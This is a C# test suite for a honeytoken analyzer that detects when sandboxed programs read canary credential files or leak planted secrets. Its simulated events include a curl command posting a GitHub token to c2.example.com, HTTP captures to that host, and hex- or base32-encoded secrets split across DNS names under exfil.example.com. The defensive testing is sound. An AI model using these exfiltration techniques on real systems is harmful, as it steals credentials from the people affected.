using System.IO.Compression;
using System.Text;
using System.Text.Json;
using DynamicProbe.Core.Analysis;
using DynamicProbe.Core.Events;
using DynamicProbe.Core.Findings;
using DynamicProbe.Core.Honeytokens;
using DynamicProbe.Core.Reports;

namespace DynamicProbe.Core.Tests.Honeytokens;

public sealed class HoneytokenAnalyzerTests
{
    private const string Credentials = "/home/probe/.aws/credentials";
    private static readonly DateTimeOffset T0 = new(2026, 11, 25, 12, 0, 0, TimeSpan.Zero);

    private readonly HoneytokenSet set = new HoneytokenGenerator().Generate();

    private string AwsSecret => set.Tokens.Single(t => t.FilePath == Credentials).Secret;

    private string GitHubToken => set.Environment["GITHUB_TOKEN"];

    [Test]
    public void ASuccessfulReadOfACanaryFileIsAHighFinding()
    {
        var findings = Analyze(
            new FileEvent(T0, 7, "/bin/cat", FileOperation.Read, Credentials, 3),
            new FileEvent(T0.AddSeconds(1), 8, "/usr/bin/python3", FileOperation.Read, Credentials, 4));

        var read = findings.Single();
        Assert.That(read.Rule, Is.EqualTo(HoneytokenAnalyzer.ReadRule));
        Assert.That(read.Severity, Is.EqualTo(Severity.High));
        Assert.That(read.Message, Does.Contain("AWS secret access key").And.Contain(Credentials).And.Contain("2 times").And.Contain("/bin/cat"));
        Assert.That(read.Evidence, Has.Count.EqualTo(2));
        Assert.That(read.Occurrences, Is.EqualTo(2));
    }

    [Test]
    public void FailedProbesWritesAndPublicKeysAreNoCanaryReads()
    {
        var findings = Analyze(
            new FileEvent(T0, 7, "/bin/cat", FileOperation.Read, Credentials, -13),
            new FileEvent(T0, 7, "/bin/sh", FileOperation.Write, "/home/probe/.ssh/id_rsa", 3, OpenFlags.WriteOnly),
            new FileEvent(T0, 7, "/bin/cat", FileOperation.Read, "/home/probe/.ssh/id_rsa.pub", 3));

        Assert.That(findings, Is.Empty);
    }

    [Test]
    public void NoHoneytokensNoFindings()
    {
        var recording = new PhaseRecording(Phase.Run, [Capture(AwsSecret)], MonitorHealth.Healthy);

        Assert.That(HoneytokenAnalyzer.Analyze(recording, []), Is.Empty);
    }

    [TestCase("plain", "in plain text")]
    [TestCase("hex-lower", "hex-encoded")]
    [TestCase("hex-upper", "hex-encoded")]
    [TestCase("url", "URL-encoded")]
    [TestCase("json", "JSON-escaped")]
    [TestCase("base32", "base32-encoded")]
    public void EachEncodingOfTheSecretInACaptureIsCritical(string encoding, string words)
    {
        // Fixed, so that URL and JSON encoding have characters to escape.
        const string secret = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYzEXAMPLEKEY";
        var sent = encoding switch
        {
            "plain" => secret,
            "hex-lower" => Convert.ToHexStringLower(Encoding.ASCII.GetBytes(secret)),
            "hex-upper" => Convert.ToHexString(Encoding.ASCII.GetBytes(secret)),
            "url" => Uri.EscapeDataString(secret),
            "json" => JsonSerializer.Serialize(secret),
            _ => Base32("k=" + secret),
        };

        var tokens = new[] { new Honeytoken(HoneytokenKind.AwsCredentials, Credentials, null, secret) };
        var recording = new PhaseRecording(Phase.Run, [Capture($"POST /collect HTTP/1.1\r\nHost: c2.example.com\r\n\r\nkey={sent}")], MonitorHealth.Healthy);

        var finding = HoneytokenAnalyzer.Analyze(recording, tokens).Single();

        Assert.That(finding.Rule, Is.EqualTo(HoneytokenAnalyzer.ExfiltrationRule));
        Assert.That(finding.Severity, Is.EqualTo(Severity.Critical));
        Assert.That(finding.Message, Does.StartWith($"AWS secret access key from {Credentials} sent {words} over TCP to c2.example.com:443 (203.0.113.7)"));
        Assert.That(finding.Message, Does.Contain("by /tmp/stealer").And.Not.Contain("part of it"));
    }

    [Test]
    public void Base64IsFoundAtEveryAlignmentInsideALargerBlobStandardAndUrlSafe([Values(0, 1, 2)] int offset, [Values] bool urlSafe)
    {
        var blob = Convert.ToBase64String(Encoding.ASCII.GetBytes(new string('x', 10 + offset) + "secret=" + AwsSecret + "&more=1"));
        if (urlSafe)
        {
            blob = blob.Replace('+', '-').Replace('/', '_');
        }

        var finding = Analyze(Capture(blob)).Single();

        Assert.That(finding.Message, Does.Contain("base64-encoded over TCP to c2.example.com"));
        Assert.That(finding.Message, Does.Not.Contain("part of it"));
    }

    [Test]
    public void AWholeCredentialsFileBase64WrappedIntoLinesIsFound()
    {
        var file = set.Files.Single(f => f.Path == Credentials).Content;
        var wrapped = string.Join('\n', Convert.ToBase64String(Encoding.ASCII.GetBytes(file)).Chunk(76).Select(c => new string(c)));

        var finding = Analyze(Content("/tmp/y", wrapped)).Single();

        Assert.That(finding.Message, Is.EqualTo($"AWS secret access key from {Credentials} written base64-encoded to the file /tmp/y left in the sandbox"));
        Assert.That(finding.Evidence.Single(), Is.TypeOf<FileContentEvent>());
    }

    [Test]
    public void ASecretInAnArgvIsCriticalAndNamesTheProgram()
    {
        var exec = new ProcessExecEvent(T0, 9, "/bin/sh", 8, "/usr/bin/curl", ["curl", "-d", $"t={Uri.EscapeDataString(GitHubToken)}", "https://c2.example.com/"], 0);

        var finding = Analyze(exec).Single();

        Assert.That(finding.Message, Does.StartWith("GitHub token from the environment variable GITHUB_TOKEN passed in plain text on the command line of /usr/bin/curl: curl -d t=ghp_"));
        Assert.That(finding.Evidence.Single(), Is.SameAs(exec));
    }

    [Test]
    public void HexChunksSplitAcrossTheLabelsOfOneDnsNameAreFound()
    {
        var hex = Convert.ToHexStringLower(Encoding.ASCII.GetBytes(GitHubToken));
        var name = $"{hex[..30]}.{hex[30..60]}.{hex[60..]}.x.exfil.example.com";

        var finding = Analyze(Dns(name)).Single();

        Assert.That(finding.Message, Is.EqualTo($"GitHub token from the environment variable GITHUB_TOKEN sent hex-encoded in the DNS name {name} (zone x.exfil.example.com) by /tmp/stealer"));
    }

    [Test]
    public void ASecretSentInChunksOverSeveralQueriesIsOneFindingNamingThemAll()
    {
        var hex = Convert.ToHexString(Encoding.ASCII.GetBytes(AwsSecret));
        var chunks = hex.Chunk(24).Select(c => new string(c)).ToList();
        var queries = chunks
            .SelectMany((c, i) => new[] { Dns($"{c}.x.exfil.example.com", i * 2), Dns($"{c}.x.exfil.example.com", (i * 2) + 1, "AAAA") })
            .Append(Dns("www.example.com", 99))
            .ToArray();

        var finding = Analyze(queries).Single();

        Assert.That(finding.Message, Does.Contain($"sent hex-encoded across {chunks.Count} DNS names under x.exfil.example.com, the first {chunks[0]}.x.exfil.example.com"));
        Assert.That(finding.Message, Does.Not.Contain("part of it"));
        Assert.That(finding.Evidence.Cast<DnsQueryEvent>().Select(q => q.Name).Distinct().Count(), Is.EqualTo(chunks.Count));
    }

    [Test]
    public void NumberedChunksAreJoinedInTheirOrderEvenWhenAskedOutOfOrder()
    {
        var hex = Convert.ToHexStringLower(Encoding.ASCII.GetBytes(AwsSecret));
        var chunks = hex.Chunk(30).Select(c => new string(c)).ToList();
        var queries = chunks.Select((c, i) => $"{c}.{i}.exfil.example.org")
            .Reverse()
            .Select((name, time) => Dns(name, time))
            .ToArray();

        var finding = Analyze(queries).Single();

        Assert.That(finding.Rule, Is.EqualTo(HoneytokenAnalyzer.ExfiltrationRule));
        Assert.That(finding.Message, Does.Contain("hex-encoded across").And.Contain("exfil.example.org"));
    }

    [Test]
    public void DataLabelsJoinedUnderTheirCommonZoneAcrossQueries()
    {
        var base32 = Base32(GitHubToken).ToLowerInvariant();
        var names = base32.Chunk(20).Select(c => new string(c)).Chunk(2).Select(pair => string.Join('.', pair) + ".t.example.org").ToList();

        var finding = Analyze([.. names.Select((n, i) => Dns(n, i))]).Single();

        Assert.That(finding.Message, Does.Contain("base32-encoded across").And.Contain("under t.example.org"));
    }

    [Test]
    public void ASecretInAUdpDatagramIsCaught()
    {
        var finding = Analyze(Capture($"\u0001\u0002{set.Environment["DATABASE_URL"]}", protocol: "udp", dnsName: null, port: 9999)).Single();

        Assert.That(finding.Message, Does.StartWith("database password from the environment variable DATABASE_URL sent in plain text over UDP to 203.0.113.7:9999"));
    }

    [Test]
    public void AGzippedTarOfTheSshFolderIsSeenThrough()
    {
        var key = set.Files.Single(f => f.Path == "/home/probe/.ssh/id_rsa").Content;
        using var compressed = new MemoryStream();
        using (var gzip = new GZipStream(compressed, CompressionLevel.Optimal, leaveOpen: true))
        {
            gzip.Write(Encoding.ASCII.GetBytes("id_rsa\0\0\0" + key));
        }

        var finding = Analyze(CaptureBytes(compressed.ToArray())).Single();

        Assert.That(finding.Message, Does.StartWith("SSH private key from /home/probe/.ssh/id_rsa sent in plain text, inside gzip data over TCP"));
    }

    [Test]
    public void ACutCaptureHoldingOnlyTheStartOfTheSecretIsAPartialLeak()
    {
        var finding = Analyze(Capture("Authorization: token " + GitHubToken[..22])).Single();

        Assert.That(finding.Message, Does.Contain("in plain text (part of it)"));
    }

    [Test]
    public void AFileNamedAfterTheSecretIsALeak()
    {
        var finding = Analyze(new FileEvent(T0, 5, "/bin/touch", FileOperation.Write, $"/tmp/.{GitHubToken}", 3, OpenFlags.Create)).Single();

        Assert.That(finding.Message, Is.EqualTo($"GitHub token from the environment variable GITHUB_TOKEN put in plain text into the file name /tmp/.{GitHubToken} by /bin/touch"));
    }

    [Test]
    public void OneFindingPerHoneytokenAndDestination()
    {
        var findings = Analyze(
            Capture(AwsSecret, time: 1),
            Capture(Convert.ToHexString(Encoding.ASCII.GetBytes(AwsSecret)), time: 2),
            Capture(AwsSecret, time: 3, address: "198.51.100.4", dnsName: "other.example.net"),
            Capture(GitHubToken, time: 4));

        Assert.That(findings.Select(f => f.Rule), Is.All.EqualTo(HoneytokenAnalyzer.ExfiltrationRule));
        Assert.That(findings, Has.Count.EqualTo(3));
        var first = findings[0];
        Assert.That(first.Message, Does.Contain("in plain text").And.Contain("c2.example.com"));
        Assert.That(first.Occurrences, Is.EqualTo(2));
        Assert.That(findings[1].Message, Does.Contain("other.example.net:443 (198.51.100.4)"));
        Assert.That(findings[2].Message, Does.StartWith("GitHub token"));
    }

    [Test]
    public void ACanaryFileTheProgramChangedIsNoLeakOfItsOwnSecret()
    {
        var changed = set.Files.Single(f => f.Path == Credentials).Content + "region = eu-west-1\n";

        Assert.That(Analyze(Content(Credentials, changed)), Is.Empty);
        Assert.That(Analyze(Content("/tmp/copy", changed)).Single().Message, Does.Contain("/tmp/copy"));
    }

    [Test]
    public void UnrelatedRandomDataAndAnotherRunsSecretsMakeNoFinding()
    {
        var random = new Random(1234);
        var bytes = new byte[256 * 1024];
        random.NextBytes(bytes);
        var other = new HoneytokenGenerator().Generate();
        var otherFiles = string.Concat(other.Files.Select(f => f.Content)) + string.Concat(other.Environment.Values);

        var findings = Analyze(
            CaptureBytes(bytes),
            Capture(Convert.ToBase64String(bytes)),
            Capture(Convert.ToHexString(bytes[..60000])),
            Content("/tmp/other", otherFiles),
            Content("/tmp/other.b64", Convert.ToBase64String(Encoding.ASCII.GetBytes(otherFiles))),
            Dns($"{Convert.ToHexStringLower(bytes[..30])}.{Convert.ToHexStringLower(bytes[30..60])}.x.example.com"),
            new ProcessExecEvent(T0, 3, "/bin/sh", 2, "/usr/bin/env", ["env", other.Environment["GITHUB_TOKEN"]], 0));

        Assert.That(findings, Is.Empty);
    }

    [Test]
    public void FindingsSurviveTheJsonReport()
    {
        var findings = Analyze(new FileEvent(T0, 7, "/bin/cat", FileOperation.Read, Credentials, 3), Content("/tmp/x", AwsSecret));
        var result = new ScenarioResult("x", "/s/x.yaml", Verdict.Findings, findings, [], [], [], TimeSpan.Zero);

        var json = JsonReportWriter.Serialize(new RunReport([result], Severity.Low, T0, T0));

        using var document = JsonDocument.Parse(json);
        var written = document.RootElement.GetProperty("scenarios")[0].GetProperty("findings");
        Assert.That(written.EnumerateArray().Select(f => f.GetProperty("rule").GetString()),
            Is.EqualTo(new[] { HoneytokenAnalyzer.ExfiltrationRule, HoneytokenAnalyzer.ReadRule }));
        Assert.That(written[0].GetProperty("severity").GetString(), Is.EqualTo("critical"));
        Assert.That(written[0].GetProperty("evidence")[0].GetProperty("type").GetString(), Is.EqualTo("content"));
        Assert.That(written[0].GetProperty("evidence")[0].GetProperty("path").GetString(), Is.EqualTo("/tmp/x"));
    }

    private IReadOnlyList<Finding> Analyze(params ProbeEvent[] events) =>
        HoneytokenAnalyzer.Analyze(new PhaseRecording(Phase.Run, events, MonitorHealth.Healthy), set.Tokens);

    private static SinkholeCaptureEvent Capture(
        string sent, int time = 0, string protocol = "tcp", string address = "203.0.113.7", string? dnsName = "c2.example.com", int port = 443) =>
        new(T0.AddSeconds(time), 42, "/tmp/stealer", protocol, address, port, dnsName, null,
            Convert.ToBase64String(Encoding.Latin1.GetBytes(sent)), sent.Length);

    private static SinkholeCaptureEvent CaptureBytes(byte[] sent) =>
        new(T0, 42, "/tmp/stealer", "tcp", "203.0.113.7", 443, "c2.example.com", null, Convert.ToBase64String(sent), sent.Length);

    private static DnsQueryEvent Dns(string name, int time = 0, string type = "A") =>
        new(T0.AddMilliseconds(time), 42, "/tmp/stealer", name, type, "198.18.0.3");

    private static FileContentEvent Content(string path, string content) =>
        new(T0, 0, "(file left in the sandbox)", path, Convert.ToBase64String(Encoding.ASCII.GetBytes(content)), content.Length);

    private static string Base32(string text)
    {
        const string alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
        var bits = string.Concat(Encoding.ASCII.GetBytes(text).Select(b => Convert.ToString(b, 2).PadLeft(8, '0')));
        return string.Concat(bits.Chunk(5).Select(c => alphabet[Convert.ToInt32(new string(c).PadRight(5, '0'), 2)]));
    }
}
